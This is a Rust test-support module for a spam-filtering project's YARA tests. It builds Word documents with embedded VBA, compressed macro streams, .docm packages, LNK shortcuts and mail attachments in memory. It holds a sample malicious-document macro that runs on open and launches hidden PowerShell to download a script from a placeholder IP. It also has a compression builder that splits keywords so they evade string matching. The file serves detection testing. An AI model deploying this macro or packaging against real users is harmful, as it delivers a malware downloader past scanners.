//! Sample builders for the YARA tests: every positive and near-miss sample is built here, in
//! memory, from the bytes the real formats use.

#![allow(dead_code)]

use std::io::{Cursor, Write};

/// MS-OVBA compression using literal tokens only: a flag byte 0x00 before every group of eight
/// literals, in chunks of at most 4096 source bytes. Valid compressed VBA (Office reads it),
/// and the worst case for YARA: every word longer than a few letters is cut by a flag byte.
pub fn ovba_compress_literals(src: &[u8]) -> Vec<u8> {
    let mut out = vec![0x01];
    for chunk in src.chunks(4096) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0x00);
            body.extend_from_slice(group);
        }
        let size = u16::try_from(body.len() + 2).unwrap_or(u16::MAX);
        let header: u16 = ((size - 3) & 0x0FFF) | 0x3000 | 0x8000;
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

/// A Word 97 document whose VBA project holds one module with `source`, the way tools that
/// write no p-code cache store it (module stream = compressed source only).
pub fn ole_with_vba(source: &str) -> Vec<u8> {
    let mut cfb = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("in-memory cfb");
    cfb.create_storage_all("/Macros/VBA").expect("storage");
    let streams: [(&str, Vec<u8>); 5] = [
        ("/WordDocument", vec![0xEC, 0xA5, 0xC1, 0x00, 0, 0, 0, 0]),
        (
            "/Macros/PROJECT",
            b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\nName=\"Project\"\r\n".to_vec(),
        ),
        ("/Macros/VBA/_VBA_PROJECT", vec![0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00]),
        ("/Macros/VBA/dir", ovba_compress_literals(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00")),
        ("/Macros/VBA/ThisDocument", ovba_compress_literals(source.as_bytes())),
    ];
    for (path, data) in streams {
        let mut s = cfb.create_stream(path).expect("stream");
        s.write_all(&data).expect("write");
    }
    cfb.flush().expect("flush");
    cfb.into_inner().into_inner()
}

/// The module of a typical maldoc: runs on open, starts PowerShell through `Shell`.
pub const MALDOC_VBA: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
Attribute VB_Base = \"1Normal.ThisDocument\"\r\n\
Attribute VB_Creatable = False\r\n\
Sub AutoOpen()\r\n\
    Dim cmd As String\r\n\
    cmd = \"powershell -w hidden -c iwr http://203.0.113.7/a.ps1 -o $env:TEMP\\a.ps1\"\r\n\
    Shell cmd, 0\r\n\
End Sub\r\n";

/// A harmless auto-run macro: formats the document, runs nothing.
pub const BENIGN_AUTO_VBA: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
Attribute VB_Base = \"1Normal.ThisDocument\"\r\n\
Sub AutoOpen()\r\n\
    ActiveDocument.Content.Font.Name = \"Arial\"\r\n\
    MsgBox \"Welcome\"\r\n\
End Sub\r\n";

/// A `.docm`-like package storing `word/vbaProject.bin` without compression.
pub fn zip_stored(name: &str, data: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file("[Content_Types].xml", options)
        .expect("entry");
    zip.write_all(b"<?xml version=\"1.0\"?><Types/>")
        .expect("write");
    zip.start_file(name, options).expect("entry");
    zip.write_all(data).expect("write");
    zip.finish().expect("finish").into_inner()
}

/// A Windows shortcut (MS-SHLLINK) with Unicode StringData: relative path and arguments.
pub fn lnk(relative_path: &str, arguments: Option<&str>) -> Vec<u8> {
    const HAS_RELATIVE_PATH: u32 = 0x08;
    const HAS_ARGUMENTS: u32 = 0x20;
    const IS_UNICODE: u32 = 0x80;
    let mut flags = HAS_RELATIVE_PATH | IS_UNICODE;
    if arguments.is_some() {
        flags |= HAS_ARGUMENTS;
    }
    let mut b = Vec::new();
    b.extend_from_slice(&0x4Cu32.to_le_bytes());
    // CLSID 00021401-0000-0000-C000-000000000046
    b.extend_from_slice(&[
        0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
        0x46,
    ]);
    b.extend_from_slice(&flags.to_le_bytes());
    b.extend_from_slice(&0x20u32.to_le_bytes()); // FILE_ATTRIBUTE_ARCHIVE
    b.extend_from_slice(&[0; 24]); // creation, access, write times
    b.extend_from_slice(&0u32.to_le_bytes()); // file size
    b.extend_from_slice(&0u32.to_le_bytes()); // icon index
    b.extend_from_slice(&7u32.to_le_bytes()); // SW_SHOWMINNOACTIVE
    b.extend_from_slice(&[0; 2 + 2 + 4 + 4]); // hotkey, reserved
    for s in std::iter::once(relative_path).chain(arguments) {
        let units: Vec<u16> = s.encode_utf16().collect();
        b.extend_from_slice(&u16::try_from(units.len()).unwrap_or(0).to_le_bytes());
        for u in units {
            b.extend_from_slice(&u.to_le_bytes());
        }
    }
    b.extend_from_slice(&0u32.to_le_bytes()); // terminal block
    b
}

/// A one-part mail with an attachment, base64 or as plain 7-bit text.
pub fn mail_with_attachment(name: &str, data: &[u8], base64: bool) -> Vec<u8> {
    use base64::Engine as _;
    let (encoding, body) = if base64 {
        let text = base64::engine::general_purpose::STANDARD.encode(data);
        let lines: Vec<&str> = text
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap_or(""))
            .collect();
        ("base64", lines.join("\r\n"))
    } else {
        ("7bit", String::from_utf8_lossy(data).into_owned())
    };
    format!(
        "From: sender@example.org\r\nTo: trap@example.net\r\nSubject: documents\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attached file.\r\n\
--b1\r\nContent-Type: application/octet-stream; name=\"{name}\"\r\n\
Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n\
{body}\r\n--b1--\r\n"
    )
    .into_bytes()
}

/// Deterministic pseudo-random bytes (xorshift64).
pub fn random_bytes(len: usize, mut seed: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len);
    while out.len() < len {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        out.extend_from_slice(&seed.to_le_bytes());
    }
    out.truncate(len);
    out
}

/// A fresh directory under the system temp dir, removed on drop (`tempfile` is not a
/// dependency of this crate).
pub struct TempDir(pub std::path::PathBuf);

impl TempDir {
    pub fn new(label: &str) -> TempDir {
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir = std::env::temp_dir().join(format!(
            "spamhattan-yara-{label}-{}-{n}",
            std::process::id()
        ));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("temp dir");
        TempDir(dir)
    }

    pub fn write(&self, rel: &str, text: &str) -> std::path::PathBuf {
        let path = self.0.join(rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).expect("dir");
        }
        std::fs::write(&path, text).expect("write rule file");
        path
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}
